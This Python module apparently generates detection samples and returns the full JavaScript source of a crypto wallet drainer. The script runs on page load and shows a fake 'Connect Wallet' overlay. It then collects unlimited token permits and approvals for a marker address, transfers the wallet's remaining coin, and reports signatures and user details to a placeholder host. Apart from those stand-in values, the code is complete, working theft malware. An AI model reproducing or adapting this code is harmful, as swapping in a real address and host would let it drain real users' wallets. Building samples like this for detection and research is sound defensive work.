"""What empties a wallet in a browser, inert: a window asks to connect, then for signatures. Whom it pays is the word marker, no address.

By the records of 2023-12 and 2024-10: served in the bundle of a library for the browser; what is in the wallet is asked for, then each
token is taken by an approval or a signed permit, and the coin itself by a transfer; all of it is told to a host.
"""

_DRAINER = """
const host = 'https://sink.invalid/api/marker';
const taker = '0xmarkermarkermarkermarkermarkermarkermarker';
const unlimited = 'f'.repeat(64);
function told(what, body) {
  return fetch(host + '/' + what, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(body) })
    .then((answer) => answer.json()).catch(() => ({}));
}
function shown(onClick) {
  const layer = document.createElement('div');
  layer.style.cssText = 'position:fixed;inset:0;z-index:2147483647;background:rgba(0,0,0,.6);display:flex';
  layer.innerHTML = '<div style="margin:auto;padding:24px;background:#fff;border-radius:12px"><h3>Connect Wallet</h3><ul></ul></div>';
  const list = layer.querySelector('ul');
  ['MetaMask', 'Coinbase Wallet', 'Trust Wallet', 'WalletConnect'].forEach((name) => {
    const item = document.createElement('li');
    item.textContent = name;
    item.addEventListener('click', () => { layer.remove(); onClick(name); });
    list.appendChild(item);
  });
  document.body.appendChild(layer);
}
async function asked(method, params) {
  return window.ethereum.request({ method: method, params: params });
}
async function permitted(owner, token) {
  const typed = {
    types: { Permit: [{ name: 'owner', type: 'address' }, { name: 'spender', type: 'address' }, { name: 'value', type: 'uint256' }, { name: 'nonce', type: 'uint256' }, { name: 'deadline', type: 'uint256' }] },
    primaryType: 'Permit',
    domain: { name: token.name, version: '1', chainId: token.chain, verifyingContract: token.address },
    message: { owner: owner, spender: taker, value: '0x' + unlimited, nonce: token.nonce, deadline: 9999999999 }
  };
  const signature = await asked('eth_signTypedData_v4', [owner, JSON.stringify(typed)]);
  return told('permit', { owner: owner, token: token.address, signature: signature });
}
async function approved(owner, token) {
  const data = '0x39509351' + taker.slice(2).padStart(64, '0') + unlimited;
  const hash = await asked('eth_sendTransaction', [{ from: owner, to: token.address, data: data, value: '0x0' }]);
  return told('approve', { owner: owner, token: token.address, hash: hash });
}
async function moved(owner) {
  const balance = BigInt(await asked('eth_getBalance', [owner, 'latest']));
  const price = BigInt(await asked('eth_gasPrice', []));
  const left = balance - price * BigInt(21000 * 2);
  if (left <= BigInt(0)) { return; }
  const hash = await asked('eth_sendTransaction', [{ from: owner, to: taker, value: '0x' + left.toString(16), gas: '0x5208' }]);
  await told('native', { owner: owner, hash: hash });
}
async function drain(name) {
  const accounts = await asked('eth_requestAccounts', []);
  const owner = accounts[0];
  const worth = await told('worth', { owner: owner, wallet: name, page: location.href, agent: navigator.userAgent });
  const tokens = (worth.tokens || []).sort((one, other) => other.usd - one.usd);
  for (const token of tokens) {
    try {
      if (token.permit) { await permitted(owner, token); } else { await approved(owner, token); }
    } catch (error) { await told('refused', { owner: owner, token: token.address, message: String(error) }); }
  }
  await moved(owner);
}
if (typeof window !== 'undefined' && typeof document !== 'undefined') {
  const begin = () => { if (window.ethereum) { shown(drain); } };
  if (document.readyState === 'complete') { begin(); } else { window.addEventListener('load', begin); }
}
"""


def drainer() -> str:
    """The drainer in plain JavaScript, that suits `shapes.obfuscated`, `shapes.minified` and `shapes.bundle`."""
    return _DRAINER
